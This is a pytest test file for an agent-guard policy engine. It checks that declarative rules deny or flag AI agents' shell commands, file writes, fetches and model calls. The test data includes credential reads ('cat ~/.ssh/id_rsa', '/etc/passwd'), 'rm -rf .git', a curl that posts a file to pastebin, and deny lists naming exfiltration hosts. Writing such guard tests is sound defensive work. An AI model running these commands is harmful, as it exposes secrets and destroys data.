"""Declarative rules, ``rules.match(...)``: each field, combined with other rules, indexed at scale."""

from __future__ import annotations

from pathlib import Path

import pytest

import agentguard as ag
from agentguard.policy import Policy, rules


@pytest.fixture
def repo(tmp_path: Path) -> str:
    for d in ("src/pkg", "migrations", ".git"):
        (tmp_path / d).mkdir(parents=True)
    (tmp_path / "src/pkg/a.py").write_text("x = 1\n")
    return str(tmp_path)


def shell(command: str, cwd: str | None = None, tool: str = "Bash") -> ag.Action:
    return ag.Action(kind="shell", tool=tool, command=command, cwd=cwd)


def write(path: str, cwd: str, tool: str = "Write") -> ag.Action:
    return ag.Action(kind="file_write", tool=tool, path=path, content="x", cwd=cwd)


def fetch(url: str) -> ag.Action:
    return ag.Action(kind="network", tool="WebFetch", url=url)


def llm(model: str) -> ag.Action:
    return ag.Action(kind="llm", tool="chat", model=model)


# -- each field ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("rule", "action", "outcome"),
    [
        # program: after wrappers, in any position of a list or pipeline, any spelling of the path
        (rules.match(decision="deny", program="rm"), "rm -f notes.txt", "deny"),
        (rules.match(decision="deny", program="rm"), "sudo env X=1 /bin/rm notes.txt", "deny"),
        (rules.match(decision="deny", program="rm"), "ls && bash -c 'rm x'", "deny"),
        (rules.match(decision="deny", program="rm"), "echo rm", "allow"),
        (rules.match(decision="deny", program=["curl", "wget"]), "wget -q https://x.org/", "deny"),
        # subcommand: on the same command as the program
        (rules.match(decision="deny", program="git", subcommand="push"), "cd src && git -C . push", "deny"),
        (rules.match(decision="deny", program="git", subcommand="push"), "git status; echo push", "allow"),
        (rules.match(decision="deny", program="git", subcommand="push"), "pip install push", "allow"),
        (rules.match(decision="ask", subcommand="install"), "pip install requests", "ask"),
        (rules.match(decision="ask", subcommand="install"), "npm ci", "allow"),
        # kind and tool
        (rules.match(decision="ask", kind="shell"), "ls", "ask"),
        (rules.match(decision="ask", kind="file_write"), "ls", "allow"),
        (rules.match(decision="deny", tool="Bash"), "ls", "deny"),
        (rules.match(decision="deny", tool=["shell", "run"]), "ls", "allow"),
    ],
)
def test_command_fields(rule: rules.Match, action: str, outcome: str) -> None:
    assert Policy(rules=[rule]).check(shell(action, cwd="/tmp")).outcome == outcome
    assert (rule(shell(action, cwd="/tmp"), None) is not None) == (outcome != "allow")  # alone, the same


@pytest.mark.parametrize(
    ("globs", "access", "path", "outcome"),
    [
        ("migrations/**", None, "migrations/0001.py", "deny"),
        ("migrations/**", None, "src/migrations.py", "allow"),
        ("migrations/", None, "migrations/x/y.sql", "deny"),  # a directory: the tree below it
        ("*.lock", None, "src/pkg/poetry.lock", "deny"),  # a bare name: at any depth
        ("**/a.py", None, "src/pkg/a.py", "deny"),
        ("src/*/a.py", None, "src/pkg/a.py", "deny"),
        ("src/*.py", None, "src/pkg/a.py", "allow"),  # '*' stays in one component
        (["docs/**", "src/**"], "write", "src/pkg/a.py", "deny"),
        ("src/**", "read", "src/pkg/a.py", "allow"),  # a write is not a read
        ("src/**", ["read", "write"], "src/pkg/../pkg/a.py", "deny"),  # '..' resolved
    ],
)
def test_path_field(repo: str, globs: str | list[str], access: str | None, path: str, outcome: str) -> None:
    rule = rules.match(decision="deny", path=globs, access=access)  # type: ignore[arg-type]
    assert Policy(rules=[rule]).check(write(path, repo)).outcome == outcome


def test_path_matches_every_spelling_and_every_access(repo: str) -> None:
    policy = Policy(rules=[rules.match(decision="deny", path=".git/**")])
    for command in (
        "cat .git/config",
        "echo x > .git/hooks/pre-commit",
        "rm -rf .git",
        "cd .git && cat HEAD",
    ):
        assert policy.check(shell(command, repo)).outcome == "deny", command
    assert policy.check(shell("cat src/pkg/a.py", repo)).outcome == "allow"


def test_absolute_and_home_globs(repo: str) -> None:
    policy = Policy(rules=[rules.match(decision="deny", path=["/etc/**", "~/.ssh/**"])])
    assert policy.check(shell("cat /etc/passwd", repo)).outcome == "deny"
    assert policy.check(shell("cat ~/.ssh/id_rsa", repo)).outcome == "deny"
    assert policy.check(shell("cat /var/log/syslog", repo)).outcome == "allow"


@pytest.mark.parametrize(
    ("hosts", "url", "outcome"),
    [
        ("pastebin.com", "https://pastebin.com/raw/x", "deny"),
        ("pastebin.com", "https://PASTEBIN.com./raw/x", "deny"),  # as the normaliser writes hosts
        ("pastebin.com", "https://pypi.org@pastebin.com/", "deny"),  # userinfo is not the host
        ("*.example.com", "https://a.b.example.com/", "deny"),
        ("*.example.com", "https://example.com/", "allow"),  # the wildcard is subdomains only
        ("*.example.com", "https://badexample.com/", "allow"),
        (["127.0.0.1"], "http://0x7f000001/", "deny"),  # IP literals in any spelling
        (["transfer.sh", "*.ngrok.io"], "https://x.ngrok.io/up", "deny"),
    ],
)
def test_host_field(hosts: str | list[str], url: str, outcome: str) -> None:
    assert Policy(rules=[rules.match(decision="deny", host=hosts)]).check(fetch(url)).outcome == outcome


def test_host_reached_from_a_shell_command() -> None:
    policy = Policy(rules=[rules.match(decision="deny", host="*.pastebin.com")])
    assert policy.check(shell("curl -d @notes https://api.pastebin.com/x", "/tmp")).outcome == "deny"
    assert policy.check(shell("git remote add o git@x.pastebin.com:me/r.git", "/tmp")).outcome == "deny"


def test_model_field() -> None:
    policy = Policy(rules=[rules.match(decision="deny", model=["gpt-3.5-turbo", "o1"], reason="retired")])
    assert policy.check(llm("o1")).outcome == "deny"
    assert policy.check(llm("gpt-4.1")).outcome == "allow"


def test_fields_combine_with_and_on_the_same_fact(repo: str) -> None:
    rule = rules.match(decision="deny", program="git", subcommand="push", tool="Bash", kind="shell")
    policy = Policy(rules=[rule])
    assert policy.check(shell("git push", repo)).outcome == "deny"
    assert policy.check(shell("git push", repo, tool="run")).outcome == "allow"  # another tool
    both = Policy(rules=[rules.match(decision="deny", program="cp", path="migrations/**", access="write")])
    assert both.check(shell("cp src/pkg/a.py migrations/", repo)).outcome == "deny"
    assert both.check(shell("cat migrations/x", repo)).outcome == "allow"  # a read
    assert both.check(shell("cp migrations/x src/", repo)).outcome == "allow"  # the write is to src


# -- combination, explain, trace --------------------------------------------------------------------
def test_deny_wins_over_ask_and_allow_whatever_the_order(repo: str) -> None:
    policy = Policy(
        rules=[
            rules.match(decision="allow", program="git"),
            rules.match(decision="ask", program="git", subcommand="push"),
            rules.match(decision="deny", program="git", subcommand="push", reason="agents do not push"),
        ],
        default="deny",
    )
    decision = policy.check(shell("git push origin main", repo))
    assert decision.outcome == "deny"
    assert decision.reason == "agents do not push"
    assert len(decision.matched) == 2
    assert policy.check(shell("git status", repo)).outcome == "allow"  # allow beats the default deny
    assert policy.check(shell("ls", repo)).outcome == "deny"  # the default


def test_combines_with_callables_and_builtins_in_policy_order(repo: str) -> None:
    def ask_for_git(action: ag.Action, run: ag.RunState | None) -> ag.Decision | None:
        return (
            ag.Decision.ask("git needs a look", rule_id="ask_for_git")
            if "git" in (action.command or "")
            else None
        )

    policy = Policy(
        scope=ag.Scope(root=repo, write=["src/**"]),
        rules=[
            rules.match(decision="ask", program="git", rule_id="first"),
            ask_for_git,
            rules.destructive_commands(),
            rules.match(decision="ask", program="git", subcommand="status", rule_id="last"),
        ],
    )
    decision = policy.check(shell("git status", repo))
    assert decision.outcome == "ask"
    assert decision.rule_ids == ("first", "ask_for_git", "last")
    forced = policy.check(shell("git push -f", repo))
    assert forced.outcome == "deny"
    assert forced.rule_ids == ("destructive_commands",)
    assert forced.matched == ("first", "ask_for_git")
    assert policy.check(write("docs/x.md", repo)).outcome == "deny"  # the scope still applies
    assert policy.rule_ids[-4:] == ("first", "ask_for_git", "destructive_commands", "last")


def test_explain_and_the_decision_event_name_the_rule_and_its_reason(repo: str) -> None:
    policy = Policy(
        rules=[
            rules.match(decision="deny", path=".git/**", access="write"),
            rules.match(decision="ask", program="git", subcommand="push", rule_id="push.review"),
        ]
    )
    decision = policy.check(shell("git push && echo x > .git/config", repo))
    assert decision.rule_ids == ("match.deny[path=.git/** access=write]",)
    assert decision.reason == "writes a path matching .git/**"
    text = decision.explain()
    assert text.startswith("Denied by match.deny[path=.git/** access=write]: writes a path matching .git/**")
    assert "Also matched: push.review (ask: runs git push)" in text
    attributes = decision.event_attributes()
    assert "push.review" in str(attributes)
    assert "match.deny[path=.git/** access=write]" in str(attributes)


def test_shadow_mode_and_callable_use(repo: str) -> None:
    rule = rules.match(decision="deny", program="rm", reason="no deletes")
    assert Policy(rules=[rule], mode="shadow").check(shell("rm x", repo)).mode == "shadow"
    alone = rule(shell("rm x", repo), None)
    assert alone is not None
    assert (alone.outcome, alone.reason, alone.rule_ids) == ("deny", "no deletes", (rule.rule_id,))
    assert rule(shell("ls", repo), None) is None


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"decision": "block", "program": "rm"}, "decision must be"),
        ({"decision": "deny"}, "at least one of"),
        ({"decision": "deny", "kind": "shel"}, "unknown kinds"),
        ({"decision": "deny", "program": "/bin/rm"}, "base names"),
        ({"decision": "deny", "program": []}, "program is empty"),
        ({"decision": "deny", "program": [""]}, "non-empty strings"),
        ({"decision": "deny", "access": "write"}, "give path globs too"),
        ({"decision": "deny", "path": "src/**", "access": "append"}, "access must be among"),
        ({"decision": "deny", "host": "https://x.org/"}, "a host is a name"),
        ({"decision": "deny", "host": "a.*.org"}, "a host is a name"),
    ],
)
def test_invalid_fields_fail_at_construction(fields: dict[str, object], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        rules.match(**fields)  # type: ignore[arg-type]


def test_keyword_only() -> None:
    with pytest.raises(TypeError):
        rules.match("deny", program="rm")  # type: ignore[call-arg]


# -- at scale ---------------------------------------------------------------------------------------
def test_a_5000_rule_policy_decides_correctly(repo: str) -> None:
    generated: list[ag.Rule] = []
    for i in range(1000):
        generated += [
            rules.match(decision="deny", program=f"tool{i}", rule_id=f"program.{i}"),
            rules.match(decision="ask", program="git", subcommand=f"sub{i}", rule_id=f"sub.{i}"),
            rules.match(decision="deny", path=f"generated/m{i}/**", access="write", rule_id=f"path.{i}"),
            rules.match(
                decision="deny", host=[f"h{i}.example.net", f"*.w{i}.example.org"], rule_id=f"host.{i}"
            ),
            rules.match(decision="deny", tool=f"tool_{i}", rule_id=f"tool.{i}"),
        ]
    policy = Policy(rules=generated, default="allow")
    assert len(policy.rule_ids) == 5000
    cases = [
        (shell("cd src && tool777 --x", repo), "deny", ("program.777",)),
        (shell("git sub4242", repo), "allow", ()),
        (shell("git sub999 -q", repo), "ask", ("sub.999",)),
        (shell("echo x > generated/m500/a.txt", repo), "deny", ("path.500",)),
        (shell("cat generated/m500/a.txt", repo), "allow", ()),
        (write("generated/m5000/a.txt", repo), "allow", ()),
        (fetch("https://h3.example.net/x"), "deny", ("host.3",)),
        (fetch("https://deep.a.w998.example.org/"), "deny", ("host.998",)),
        (fetch("https://w998.example.org/"), "allow", ()),
        (ag.Action(kind="other", tool="tool_17"), "deny", ("tool.17",)),
        (shell("git status && pytest -q", repo), "allow", ()),
    ]
    for action, outcome, ids in cases:
        decision = policy.check(action)
        assert (decision.outcome, decision.rule_ids) == (outcome, ids), action
